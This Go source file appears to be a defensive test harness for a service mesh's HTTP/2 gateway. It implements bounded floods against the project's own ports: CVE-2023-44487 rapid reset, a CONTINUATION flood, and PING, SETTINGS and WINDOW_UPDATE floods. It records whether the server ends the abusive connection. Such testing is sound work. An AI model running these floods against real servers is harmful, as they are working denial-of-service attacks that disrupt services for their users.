//go:build linux

package abuse

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"syscall"
	"time"
	"unsafe"

	"github.com/strait-mesh/strait/launch/demo"

	"github.com/spiffe/go-spiffe/v2/spiffeid"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"

	"github.com/strait-mesh/strait/internal/identity"
	"github.com/strait-mesh/strait/internal/tunnel"
)

// inq is how many received bytes wait unread in c's socket (SIOCINQ); -1 if unknown.
func inq(c net.Conn) int {
	sc, ok := c.(syscall.Conn)
	if !ok {
		return -1
	}
	rc, err := sc.SyscallConn()
	if err != nil {
		return -1
	}
	n := -1
	_ = rc.Control(func(fd uintptr) {
		var v int32
		if _, _, e := syscall.Syscall(syscall.SYS_IOCTL, fd, syscall.TIOCINQ, uintptr(unsafe.Pointer(&v))); e == 0 {
			n = int(v)
		}
	})
	return n
}

// smallRcvBuf is the receive buffer of the connections that stop reading: small, and set
// before connect, so that the kernel holds little for them and the peer's writes block
// soon.
const smallRcvBuf = 4 << 10

// setRcvBuf returns a net.Dialer / net.ListenConfig Control function that sets SO_RCVBUF.
func setRcvBuf(n int) func(network, address string, rc syscall.RawConn) error {
	return func(_, _ string, rc syscall.RawConn) error {
		var serr error
		if err := rc.Control(func(fd uintptr) {
			serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, n)
		}); err != nil {
			return err
		}
		return serr
	}
}

// dialH2C opens a TCP connection to an egress consumer port; rcvBuf > 0 sets SO_RCVBUF.
func dialH2C(addr string, rcvBuf int) (net.Conn, error) {
	d := net.Dialer{Timeout: 5 * time.Second}
	if rcvBuf > 0 {
		d.Control = setRcvBuf(rcvBuf)
	}
	return d.Dial("tcp", addr)
}

// dialTunnel opens a tunnel connection to a beta ingress as alpha's first egress
// instance would: TLS 1.3, its SVID as client certificate, beta's bundle, ALPN strait/1.
func dialTunnel(addr string) (net.Conn, error) {
	svid, err := identity.LoadSVID(topo.Certs.Egress[0])
	if err != nil {
		return nil, err
	}
	bundles, err := identity.LoadBundles([]identity.PeerBundle{{TrustDomain: demo.BetaTrustDomain, File: topo.Certs.BetaBundle}})
	if err != nil {
		return nil, err
	}
	td := spiffeid.RequireTrustDomainFromString(demo.BetaTrustDomain)
	return tunnel.DialTLS(context.Background(), addr, identity.ClientConfig(svid, bundles, td, tunnel.ALPN), 5*time.Second)
}

// henc encodes header blocks with one HPACK encoder (its dynamic table is the
// connection's).
type henc struct {
	buf bytes.Buffer
	enc *hpack.Encoder
}

func newHenc() *henc {
	h := &henc{}
	h.enc = hpack.NewEncoder(&h.buf)
	return h
}

func (h *henc) block(fields []hpack.HeaderField) []byte {
	h.buf.Reset()
	for _, f := range fields {
		_ = h.enc.WriteField(f) // writes to a bytes.Buffer
	}
	return bytes.Clone(h.buf.Bytes())
}

// grpcRequest is the header list of a gRPC call of path; extra fields follow.
func grpcRequest(scheme, authority, path string, extra ...hpack.HeaderField) []hpack.HeaderField {
	return append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: scheme},
		{Name: ":path", Value: path},
		{Name: ":authority", Value: authority},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	}, extra...)
}

// target is a port under attack: how to reach it and what a routed gRPC call to the
// interop TestService looks like there.
type target struct {
	name string
	addr string
	dial func() (net.Conn, error)
	// call is the header list of a UnaryCall the gateway routes to the provider.
	call []hpack.HeaderField
}

func egressTarget() target {
	addr := topo.Egress[0]
	return target{
		name: "egress", addr: addr,
		dial: func() (net.Conn, error) { return dialH2C(addr, 0) },
		call: grpcRequest("http", addr, "/"+demo.GRPCService+"/UnaryCall"),
	}
}

func ingressTarget() target {
	addr := topo.Ingress[0]
	return target{
		name: "ingress", addr: addr,
		dial: func() (net.Conn, error) { return dialTunnel(addr) },
		// What alpha's egress sends on the tunnel.
		call: grpcRequest("https", addr, "/"+demo.GRPCService+"/UnaryCall",
			hpack.HeaderField{Name: "strait-protocol", Value: "grpc"},
			hpack.HeaderField{Name: "strait-service", Value: demo.GRPCService}),
	}
}

// grpcMessage frames m as one uncompressed gRPC message.
func grpcMessage(m proto.Message) []byte {
	b, err := proto.Marshal(m)
	if err != nil {
		panic(err)
	}
	out := make([]byte, 5, 5+len(b))
	binary.BigEndian.PutUint32(out[1:], uint32(len(b)))
	return append(out, b...)
}

// h2conn is the client side of a raw HTTP/2 connection: a buffered framer for writing
// (one goroutine at a time) and one for reading.
type h2conn struct {
	nc net.Conn
	br *bufio.Reader
	bw *bufio.Writer
	w  *http2.Framer
	r  *http2.Framer
}

func newH2Conn(nc net.Conn) *h2conn {
	bw := bufio.NewWriterSize(nc, 64<<10)
	br := bufio.NewReaderSize(nc, 64<<10)
	r := http2.NewFramer(nil, br)
	r.SetMaxReadFrameSize(1 << 24)
	return &h2conn{nc: nc, br: br, bw: bw, w: http2.NewFramer(bw, nil), r: r}
}

// handshake sends the preface and settings, reads up to the server's SETTINGS and
// acknowledges it.
func (c *h2conn) handshake(settings ...http2.Setting) error {
	if _, err := c.bw.WriteString(http2.ClientPreface); err != nil {
		return err
	}
	if err := c.w.WriteSettings(settings...); err != nil {
		return err
	}
	if err := c.bw.Flush(); err != nil {
		return err
	}
	_ = c.nc.SetReadDeadline(time.Now().Add(5 * time.Second))
	defer c.nc.SetReadDeadline(time.Time{})
	for {
		f, err := c.r.ReadFrame()
		if err != nil {
			return fmt.Errorf("waiting for the server's SETTINGS: %w", err)
		}
		if sf, ok := f.(*http2.SettingsFrame); ok && !sf.IsAck() {
			if err := c.w.WriteSettingsAck(); err != nil {
				return err
			}
			return c.bw.Flush()
		}
	}
}

// flood is one kind of attack: after the handshake, prepare (if set) writes once, then
// unit writes one step (one or two frames) and returns how many frames it wrote.
type flood struct {
	name     string
	kind     string // strait_h2_abuse_total's kind label
	maxUnits int
	prepare  func(c *h2conn, tg target, h *henc) error
	unit     func(c *h2conn, i int) (frames int, err error)
	// debug is the GOAWAY debug data the contract names for this flood, if any.
	debug string
}

// floodResult is what the attacker saw.
type floodResult struct {
	// framesSent were written to the socket before the connection was found ended (the
	// kernel's buffers take megabytes, so the server may not have read them all).
	framesSent  int64
	units       int
	elapsed     time.Duration
	goAway      bool
	goAwayCode  http2.ErrCode
	goAwayDebug string
	lastStream  uint32
	closed      bool   // the server closed the connection (EOF / reset on read or write)
	stoppedBy   string // what ended the attack loop
	readErr     error
	// received counts the frames the server sent, by type: how far it got answering
	// (PING and SETTINGS acknowledgements, RST_STREAM and HEADERS of the reset streams).
	received map[http2.FrameType]int
}

// ended reports whether the server ended the attacker's connection, and how.
func (r floodResult) ended() bool { return r.goAway || r.closed }

func (r floodResult) String() string {
	s := fmt.Sprintf("%d frames sent (%d units) in %v, stopped by %s; received %v", r.framesSent, r.units, r.elapsed.Round(time.Millisecond), r.stoppedBy, r.received)
	if r.goAway {
		s += fmt.Sprintf("; GOAWAY %v (last stream %d, debug %q)", r.goAwayCode, r.lastStream, r.goAwayDebug)
	}
	if r.closed {
		s += "; connection closed by the server"
	} else if r.readErr != nil && !errors.Is(r.readErr, net.ErrClosed) {
		s += fmt.Sprintf("; read ended: %v", r.readErr)
	} else {
		s += "; the server neither sent GOAWAY nor closed (the attacker closed)"
	}
	return s
}

// attack runs fl on a new connection to tg for at most d (and fl.maxUnits units), reading
// and discarding whatever the server sends meanwhile. It stops when the server ends the
// connection (GOAWAY or close); after the attack's own bounds it waits 2 s for the server
// to end it still (what was written may not be read yet).
// It runs in a goroutine of its own, so it returns its failures.
func attack(tg target, fl flood, d time.Duration) (floodResult, error) {
	nc, err := tg.dial()
	if err != nil {
		return floodResult{}, err
	}
	defer nc.Close()
	c := newH2Conn(nc)
	if err := c.handshake(); err != nil {
		return floodResult{}, fmt.Errorf("handshake: %w", err)
	}
	h := newHenc()
	if fl.prepare != nil {
		if err := fl.prepare(c, tg, h); err != nil {
			return floodResult{}, err
		}
	}

	var res floodResult
	// The reader's findings, merged into res once it has returned.
	var rd struct {
		goAway     bool
		code       http2.ErrCode
		debug      string
		lastStream uint32
		closed     bool
		err        error
		received   map[http2.FrameType]int
	}
	rd.received = map[http2.FrameType]int{}
	var (
		mu        sync.Mutex // sent, sentAtEnd
		sent      int64
		sentAtEnd int64 = -1
	)
	endedCh := make(chan struct{}) // closed at GOAWAY or the end of the connection
	readerDone := make(chan struct{})
	markEnded := func() {
		mu.Lock()
		defer mu.Unlock()
		if sentAtEnd < 0 {
			sentAtEnd = sent
			close(endedCh)
		}
	}
	go func() {
		defer close(readerDone)
		for {
			f, err := c.r.ReadFrame()
			if err != nil {
				rd.err = err
				rd.closed = errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) || errors.Is(err, syscall.ECONNRESET)
				markEnded()
				return
			}
			rd.received[f.Header().Type]++
			if ga, ok := f.(*http2.GoAwayFrame); ok && !rd.goAway {
				rd.goAway, rd.code, rd.lastStream = true, ga.ErrCode, ga.LastStreamID
				rd.debug = string(ga.DebugData())
				markEnded()
			}
		}
	}()

	start := time.Now()
	stopAt := start.Add(d)
	_ = nc.SetWriteDeadline(stopAt.Add(time.Second))
	const batch = 32
write:
	for res.units < fl.maxUnits {
		select {
		case <-endedCh:
			res.stoppedBy = "the server"
			break write
		default:
		}
		if time.Now().After(stopAt) {
			res.stoppedBy = "the time bound"
			break
		}
		n := 0
		var err error
		for range batch {
			if res.units >= fl.maxUnits {
				break
			}
			var k int
			if k, err = fl.unit(c, res.units); err != nil {
				break
			}
			n += k
			res.units++
		}
		if err == nil {
			err = c.bw.Flush()
		}
		if err != nil {
			var ne net.Error
			if errors.As(err, &ne) && ne.Timeout() {
				res.stoppedBy = "a write that blocked past the time bound (the server stopped reading)"
			} else {
				res.stoppedBy = "a failed write: " + err.Error()
				res.closed = true
			}
			break
		}
		mu.Lock()
		sent += int64(n)
		mu.Unlock()
	}
	if res.stoppedBy == "" {
		res.stoppedBy = fmt.Sprintf("the frame bound (%d units)", fl.maxUnits)
	}
	res.elapsed = time.Since(start)
	select {
	case <-endedCh:
	case <-time.After(10 * time.Second): // the server ends an abuser at once; a bound against a hang
	}
	nc.Close()
	<-readerDone
	res.goAway, res.goAwayCode, res.goAwayDebug, res.lastStream = rd.goAway, rd.code, rd.debug, rd.lastStream
	res.closed = res.closed || rd.closed
	res.readErr = rd.err
	res.received = rd.received
	mu.Lock()
	res.framesSent = sent
	if sentAtEnd >= 0 {
		res.framesSent = sentAtEnd
	}
	mu.Unlock()
	return res, nil
}

// floods are the attacks of the issue, each bounded to 100k units.
func floods() []flood {
	const maxUnits = 100_000
	var (
		rrBlocks  [2][]byte // rapid reset: the first header block, and the one after
		contChunk []byte    // continuation: one CONTINUATION's fragment
	)
	return []flood{
		{
			// CVE-2023-44487: open a stream and cancel it at once, again and again.
			name: "rapid_reset", kind: "rapid_reset", maxUnits: maxUnits,
			prepare: func(c *h2conn, tg target, h *henc) error {
				// The first block fills the HPACK dynamic table, the second only indexes it
				// and stays valid for every stream after.
				first := h.block(tg.call)
				next := h.block(tg.call)
				rrBlocks = [2][]byte{first, next}
				return nil
			},
			unit: func(c *h2conn, i int) (int, error) {
				id := uint32(2*i + 1)
				blk := rrBlocks[1]
				if i == 0 {
					blk = rrBlocks[0]
				}
				if err := c.w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: blk, EndHeaders: true}); err != nil {
					return 0, err
				}
				return 2, c.w.WriteRSTStream(id, http2.ErrCodeCancel)
			},
		},
		{
			// CVE-2024-27316 and kin: one header block that never ends.
			name: "continuation", kind: "continuation", maxUnits: maxUnits,
			prepare: func(c *h2conn, tg target, h *henc) error {
				if err := c.w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.block(tg.call)}); err != nil {
					return err
				}
				// 1 KiB fields, never indexed: each CONTINUATION adds to the header list.
				contChunk = h.block([]hpack.HeaderField{{Name: "x-flood", Value: string(bytes.Repeat([]byte("a"), 1000)), Sensitive: true}})
				return c.bw.Flush()
			},
			unit: func(c *h2conn, _ int) (int, error) {
				return 1, c.w.WriteContinuation(1, false, contChunk)
			},
		},
		{
			name: "ping", kind: "ping", maxUnits: maxUnits, debug: "too_many_pings",
			unit: func(c *h2conn, i int) (int, error) {
				var p [8]byte
				binary.BigEndian.PutUint64(p[:], uint64(i))
				return 1, c.w.WritePing(false, p)
			},
		},
		{
			// Values equal to the defaults: each frame changes nothing but must be
			// acknowledged.
			name: "settings", kind: "settings", maxUnits: maxUnits,
			unit: func(c *h2conn, _ int) (int, error) {
				return 1, c.w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
			},
		},
		{
			// Increments of 1 on the connection: 100k of them stay far below 2^31-1.
			name: "window_update", kind: "window_update", maxUnits: maxUnits,
			unit: func(c *h2conn, _ int) (int, error) {
				return 1, c.w.WriteWindowUpdate(0, 1)
			},
		},
	}
}
